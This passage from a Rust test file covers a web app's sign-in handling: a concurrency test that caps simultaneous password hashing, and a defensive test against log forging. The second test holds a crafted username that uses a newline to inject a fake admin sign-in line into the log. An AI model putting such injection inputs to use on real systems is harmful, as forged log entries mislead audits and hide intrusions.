        .all(&app.state.db)
        .await
        .unwrap()
        .into_iter()
        .map(|a| a.id)
        .collect();
    person::Entity::find()
        .filter(person::Column::AgencyId.is_in(ids))
        .filter(person::Column::Active.eq(true))
        .all(&app.state.db)
        .await
        .unwrap()
        .len()
}

#[allow(dead_code)]
fn _uses(_: certificate::Model) {}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_burst_of_sign_ins_hashes_at_most_one_password_per_core() {
    let app = TestApp::spawn().await;
    let mut tasks = Vec::new();
    for i in 0..40 {
        let app = app.clone();
        tasks.push(tokio::spawn(async move {
            sign_in_from(
                &app,
                &format!("100.64.{}.{}:1000", i / 200, i % 200 + 1),
                &format!("ai-do-{i}"),
                "x",
            )
            .await
        }));
    }
    for t in tasks {
        let r = t.await.unwrap();
        assert_eq!(r.status, StatusCode::SEE_OTHER);
    }
    let peak = app::ssr::auth::hashing_peak();
    assert!(peak >= 1, "the sign-ins hashed");
    assert!(
        peak <= app::ssr::auth::hashing_slots(),
        "{peak} hashes ran at once on {} slots",
        app::ssr::auth::hashing_slots()
    );
}

#[tokio::test]
async fn a_newline_in_a_username_cannot_forge_a_log_line() {
    let app = TestApp::spawn().await;
    let log = common::LogCapture::default();
    let _guard = tracing::subscriber::set_default(log.subscriber());
    let forged = "nobody\n2026-12-02T00:00:00Z  INFO signed in account=1 role=admin";
    let body = format!(
        "username={}&password=x",
        form_urlencoded::byte_serialize(forged.as_bytes()).collect::<String>()
    );
    app.post_form("/auth/sign-in", &body, None).await;
    let text = log.text();
    assert!(text.contains("sign-in refused"), "{text}");
    assert!(
        !text.lines().any(|l| l.starts_with("2026-12-02T00:00:00Z")),
        "a forged line appeared in the log:\n{text}"
    );
    assert!(text.contains("nobody\\n2026"), "the name is logged escaped: {text}");
}
